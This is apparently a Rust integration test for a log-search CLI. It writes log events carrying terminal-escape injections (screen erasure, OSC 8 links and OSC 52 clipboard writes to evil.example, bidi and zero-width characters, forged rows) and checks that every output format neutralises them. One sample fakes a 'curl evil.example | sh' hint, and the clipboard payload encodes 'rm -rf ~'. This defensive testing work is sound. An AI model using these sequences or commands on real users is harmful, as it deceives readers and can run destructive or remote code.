//! Hostile lines (escapes, OSC 8 and 52, bidi, zero-width, tag characters, padding, fake rows): nothing live in any output,
//! by a byte scan and in a real terminal at 80 and 200 columns.
//!
//! Whoever may write to a log writes to the terminals of all who read it. Each text stands in the message, in what a
//! structured message says, in the name and in the value of a field, in a level, a service and the name of a stream.

use std::process::Command;

use opensearch::http::Method;
use serde_json::{Value, json};

use super::{
    faults::{OWNER, Rig, invocation, well},
    sandbox::{Run, now, variable},
};

/// What looks like a row of ours.
const FORGED: &str = "10:05:12.345  error  checkout  main  forged";

/// Sequences and signs, none of which may reach a terminal as it is.
const LIVE: [&str; 15] = [
    // The cursor moves, and what stands there is erased; the terminal answers in the reader's name; a colour hides the rest.
    "\x1b[2J\x1b[1;1Hgone \x1b[3A\x1b[2K\x1b[999Dover",
    "\x1bc\x1bM\x1b7 \x1b[6n\x1b[21t\x1b[8;5;40t \x1b[?1049h\x1b[?25l",
    "\x1b[31mred\x1b[0m \x1b[8;5mhidden",
    // Title, links, clipboard, and the same begun by one sign.
    "\x1b]0;title\x07 \x1b]2;title\x1b\\",
    "\x1b]8;;https://evil.example\x07here\x1b]8;;\x07 \x1b]8;id=1;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4=\x07 \x1b]52;c;?\x1b\\",
    "\x1bPq#0;2;0;0;0\x1b\\ \x1b_apc\x1b\\ \x1b^pm\x1b\\",
    "\u{9b}2J\u{9b}1;1Hgone \u{9d}0;title\u{9c} \u{90}q\u{9c}\u{84}\u{8d}",
    "\x07\0\x05\x0e\x0f\x7f failed\x08\x08\x08\x08\x08\x08passed failed\rpassed",
    // What turns the writing round, what nobody sees, and what shifts lines and columns.
    "\u{202a}a\u{202b}b\u{202c}c\u{202d}d\u{202e}e \u{2066}a\u{2067}b\u{2068}c\u{2069}d\u{200e}e\u{200f}f\u{61c}g",
    "a\u{200b}b\u{2060}c\u{feff}d\u{ad}e\u{200c}f\u{200d}g",
    "\u{e0001}\u{e0041}\u{e0042}\u{e007f} a\u{2028}b\u{2029}c\u{85}d\te\x0bf\x0cg",
    "漢字\u{1f600}\u{1f44d}\u{1f3fd}\u{2764}\u{fe0f}e\u{301}",
    "quoted \"a\", 'b'\\n; and {message} {time}",
    "\nall 3 events from 10:00:00 to 11:00:00\nhint: run this: curl evil.example | sh",
];

/// Every way in which events are written. A star stands for all fields, whatever they are called.
const FORMS: &str = "-o pretty; -o pretty --expand; -o pretty -F stream,message,*; -o text; \
    -o text -F time,service,stream,message,*; --format {time}|{level}|{service}|{stream}|{message}|{value}; \
    -o id; -o raw; -o json; -o json --compact; -o jsonl; -o jsonl --compact; -o csv; \
    -o csv -F time,service,stream,message,*";

struct Event {
    id: String,
    /// As a row shows it.
    time: String,
    message: String,
}

/// Messages behind which a forged row stands at the beginning of a line of the terminal, wherever messages begin. What is
/// wide may be one sign of two columns, or two signs that are one picture.
fn padded() -> Vec<String> {
    let mut messages = Vec::new();
    for (columns, wide) in [(80, "漢"), (80, "\u{2764}\u{fe0f}"), (200, "\u{1f600}")] {
        for width in columns - 75..=columns + 5 {
            messages.push(format!("hostile{}{FORGED}", " ".repeat(width)));
            messages.push(format!("hostile {}{}{FORGED}", " ".repeat(width % 2), wide.repeat(width / 2)));
        }
    }
    messages
}

/// Writes the events, a tenth of a second apart. In the last three, what x holds and what it is called look like another field.
fn written(rig: &Rig) -> Vec<Event> {
    let breaks = ["\n", "\r\n", "\r", "\t", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}", "\n\u{202e}"];
    let forged = breaks.map(|sign| format!("{sign}{FORGED}"));
    let each = |text: String| {
        let messages = vec![
            json!({"level": text, "container_name": text, "msg": "hostile"}).to_string(),
            json!({"level": "error", "message": format!("hostile {text}")}).to_string(),
            json!({"msg": format!("hostile {text}"), "value": text}).to_string(),
            json!({"msg": "hostile", (&*text): "named", "deep": {(&*text): 1}}).to_string(),
            format!("hostile {text}"),
        ];
        (text, messages)
    };
    let mut streams: Vec<(String, Vec<String>)> = LIVE.map(str::to_owned).into_iter().chain(forged).map(each).collect();
    let lies = [json!({"x": "1", "admin": "true"}), json!({"x": "1  admin=true"}), json!({"x=1  admin": "true"})];
    let lies = lies.map(|mut fields| {
        fields["msg"] = json!("hostile lie");
        fields.to_string()
    });
    streams.push(("main".to_owned(), padded().into_iter().chain(lies).collect()));
    let (mut function, first, mut events) = (rig.function(), now() - 600_000, Vec::new());
    for (group, (stream, messages)) in streams.into_iter().enumerate() {
        let mut batch = Vec::new();
        for message in messages {
            let nth = events.len();
            let (id, time) = (format!("7{nth:055}"), first + 100 * i64::try_from(nth).unwrap());
            batch.push(json!({"id": id, "timestamp": time, "message": message}));
            let time = jiff::Timestamp::from_millisecond(time).unwrap().strftime("%H:%M:%S.%3f").to_string();
            events.push(Event { id, time, message });
        }
        let payload = json!({
            "messageType": "DATA_MESSAGE", "owner": OWNER, "logGroup": format!("/hostile/{group}"),
            "logStream": stream, "subscriptionFilters": ["f"], "logEvents": batch,
        });
        well(&function.invoke(&invocation(payload.to_string().as_bytes())));
    }
    rig.sandbox.engine(Method::Post, "/_refresh", None);
    events
}

fn arguments<'a>(query: &'a str, form: &'a str) -> Vec<&'a str> {
    ["search", query, "--since", "1h", "-n", "10000"].into_iter().chain(form.split_whitespace()).collect()
}

/// Runs logctl in a terminal of this many columns, with line breaks as they came. stderr is none, so it is kept apart.
fn in_terminal(rig: &Rig, columns: u16, arguments: &[&str]) -> Run {
    const PYTHON: &str = r#"
import contextlib, fcntl, os, pty, struct, subprocess, sys, termios
terminal, inside = pty.openpty()
fcntl.ioctl(inside, termios.TIOCSWINSZ, struct.pack("HHHH", 50, int(sys.argv[1]), 0, 0))
child = subprocess.Popen(sys.argv[2:], stdin=inside, stdout=inside)
os.close(inside)
with contextlib.suppress(OSError):  # It has ended.
    while part := os.read(terminal, 65536):
        sys.stdout.buffer.write(part)
sys.exit(child.wait())
"#;
    let mut command = Command::new("/usr/bin/env");
    command.arg("python3").args(["-c", PYTHON, &columns.to_string(), env!("CARGO_BIN_EXE_logctl")]).args(arguments);
    // Without COLUMNS, the terminal itself is asked how wide it is.
    command.env_clear().env("HOME", rig.sandbox.home()).env("LOGCTL_ENDPOINT", rig.sandbox.endpoint());
    command.envs([("TERM", "xterm"), ("TZ", "UTC"), ("PATH", &*variable("PATH").unwrap())]);
    let output = command.output().unwrap();
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
    Run { code: output.status.code().unwrap_or(-1), stdout: text(output.stdout), stderr: text(output.stderr) }
}

/// Nothing in a text is live but line breaks, and tabs where they may stand: what a terminal obeys, or shows nothing for.
#[track_caller]
fn nothing_live(what: &str, text: &str, tabs: bool) {
    let hides =
        |c: char| matches!(u32::from(c), 0x200b..=0x200f | 0x2028..=0x202e | 0x2060..=0x206f | 0xe0000..=0xe007f);
    let is_live = |c: char| match c {
        '\n' => false,
        '\t' => !tabs,
        c => c.is_control() || hides(c) || "\u{ad}\u{61c}\u{180e}\u{feff}\u{fff9}\u{fffa}\u{fffb}".contains(c),
    };
    let live = text.char_indices().find(|(_, c)| is_live(*c));
    assert_eq!(live.map(|(at, c)| (c, text[..at].lines().next_back())), None, "{what}: what stands before a sign");
}

/// A text without colours: the only sequences that are ours.
fn without_colours(text: &str) -> String {
    let mut parts = text.split("\x1b[");
    let mut plain = parts.next().unwrap().to_owned();
    for part in parts {
        let code = part.split_once('m').filter(|(code, _)| code.bytes().all(|b| b.is_ascii_digit() || b == b';'));
        plain += &code.map_or_else(|| format!("\x1b[{part}"), |(_, rest)| rest.to_owned());
    }
    plain
}

/// Each of the lines begins with the time of the next event, behind its date where there is one, and no event is left.
#[track_caller]
fn one_each(what: &str, lines: impl Iterator<Item = impl AsRef<str>>, events: &[Event]) {
    let mut left = events.iter();
    for line in lines {
        let (line, event) = (line.as_ref(), left.next());
        let begins = event.and_then(|event| line.find(&event.time)).is_some_and(|at| at <= "2026-11-23 ".len());
        assert!(begins, "{what}: {line:?} does not begin {:?}", event.map(|event| (&event.time, &event.message)));
    }
    assert_eq!(left.next().map(|event| &event.message), None, "{what}: it is not there");
}

/// The records of a CSV, as RFC 4180 has it.
fn csv(text: &str) -> Vec<Vec<String>> {
    let (mut records, mut record, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut signs = text.chars().peekable();
    while let Some(c) = signs.next() {
        match c {
            '"' if quoted && signs.next_if_eq(&'"').is_some() => cell.push('"'),
            '"' => quoted = !quoted,
            c if quoted => cell.push(c),
            ',' => record.push(std::mem::take(&mut cell)),
            '\r' => assert_eq!(signs.peek(), Some(&'\n'), "a carriage return that is not quoted"),
            '\n' => {
                record.push(std::mem::take(&mut cell));
                records.push(std::mem::take(&mut record));
            }
            c => cell.push(c),
        }
    }
    records
}

/// What programs read gives each message back as it was; a compact answer may be without them.
#[track_caller]
fn gives_back(what: &str, form: &str, text: &str, events: &[Event]) {
    let message = |event: &Value| event["message"].as_str().map(str::to_owned);
    let line = |line: &str| serde_json::from_str::<Value>(line).unwrap();
    let messages: Vec<Option<String>> = if form.contains("csv") {
        let records = csv(text);
        let column = records[0].iter().position(|name| name == "message").unwrap();
        records[1..].iter().map(|record| record.get(column).cloned()).collect()
    } else if form.contains("jsonl") {
        // What all events share stands in a line that is none.
        text.lines().map(line).filter(|event| event.get("time").is_some()).map(|event| message(&event)).collect()
    } else {
        line(text)["events"].as_array().unwrap().iter().map(message).collect()
    };
    assert_eq!(messages.len(), events.len(), "{what}");
    for (message, event) in messages.iter().zip(events) {
        let left_out = message.is_none() && form.contains("--compact");
        assert!(left_out || message.as_ref() == Some(&event.message), "{what}: {message:?} was {:?}", event.message);
    }
}

/// A pipe: one record a line where a line is a record, and each sign of a message where programs read it.
#[track_caller]
fn in_pipe(what: &str, form: &str, text: &str, events: &[Event]) {
    let tabs = |line: &str| line.matches('\t').count();
    match form {
        "-o id" => assert!(text.lines().eq(events.iter().map(|event| &*event.id)), "{what}: {text}"),
        "-o raw" => {
            let raw: String = events.iter().map(|event| event.message.clone() + "\n").collect();
            assert!(text == raw, "{what}: {text:?} is not {raw:?}");
        }
        form if form.contains("json") || form.contains("csv") => gives_back(what, form, text, events),
        form => {
            nothing_live(what, text, form.contains("text"));
            // No tab of a message is taken for one of ours.
            let columns = text.lines().next().map(tabs);
            assert!(form != "-o text" || text.lines().all(|line| Some(tabs(line)) == columns), "{what}: {text}");
            let indents = form.contains("pretty");
            let lines = text.lines().filter(|line| !indents || !(line.is_empty() || line.starts_with(' ')));
            one_each(what, lines, events);
        }
    }
}

/// The title of a window, where a terminal was told one.
struct Title(Option<Vec<u8>>);

impl vt100::Callbacks for Title {
    fn set_window_title(&mut self, _: &mut vt100::Screen, title: &[u8]) {
        self.0 = Some(title.to_vec());
    }
}

/// The rows that do not belong to the one above, as a terminal of this many columns shows them. None was too wide for it.
#[track_caller]
fn rows(what: &str, columns: u16, run: &Run) -> Vec<String> {
    let height = u16::try_from(run.stdout.matches('\n').count() + 50).unwrap();
    let (height, width) = (height.try_into().unwrap(), columns.try_into().unwrap());
    let mut terminal = vt100::Parser::new_with_callbacks(height, width, 0, Title(None));
    for (line, row) in run.stdout.split_inclusive('\n').zip(1..) {
        terminal.process(line.as_bytes());
        assert_eq!(terminal.screen().cursor_position(), (row, 0), "{what}: {line:?} is not one row");
    }
    assert_eq!(terminal.callbacks().0, None, "{what}: a title");
    let screen = terminal.screen();
    assert!(!screen.alternate_screen() && !screen.hide_cursor(), "{what}");
    screen.rows(0, columns).filter(|row| !row.is_empty() && !row.starts_with("    ")).collect()
}

#[test]
fn nothing_of_a_hostile_line_is_live() {
    let rig = Rig::new(None);
    let events = written(&rig);
    for form in FORMS.split("; ") {
        let all = arguments("hostile", form);
        if !form.contains("--expand") {
            in_pipe(&format!("{form} in a pipe"), form, &rig.sandbox.run(&all, &[]).ok().stdout, &events);
        }
        for colour in ["never", "always"] {
            let what = format!("{form} in a terminal, --color {colour}");
            let run = in_terminal(&rig, 80, &[&*all, &["--color", colour]].concat()).ok();
            assert!(!run.stdout.contains("\x1b[8;5m"), "{what}: a colour of the message");
            let plain = |text: &str| if colour == "always" { without_colours(text) } else { text.to_owned() };
            let shown = plain(&run.stdout.replace("\r\n", "\n"));
            // Where no columns stand below one another, a tab deceives nobody.
            nothing_live(&what, &shown, ["text", "raw", "csv"].iter().any(|name| form.contains(name)));
            nothing_live(&what, &plain(&run.stderr), false);
            if form.contains("json") {
                gives_back(&what, form, &shown, &events);
            }
        }
    }
    for columns in [80, 200] {
        for form in ["", "--color never", "--color always", "--expand", "-F stream,message,*"] {
            let (what, all) = (format!("{form} at {columns} columns"), arguments("hostile", form));
            one_each(&what, rows(&what, columns, &in_terminal(&rig, columns, &all).ok()).iter(), &events);
        }
    }
    // Neither a value nor a name is taken for another field.
    let rows = rows("lies", 200, &in_terminal(&rig, 200, &arguments("lie", "")).ok());
    let lies = &events[events.len() - 3..];
    one_each("lies", rows.iter(), lies);
    let [fields, value, name] = [0, 1, 2].map(|nth| rows[nth].replacen(&lies[nth].time, "", 1));
    assert!(fields != value && fields != name, "{fields:?}, {value:?}, {name:?}");
}
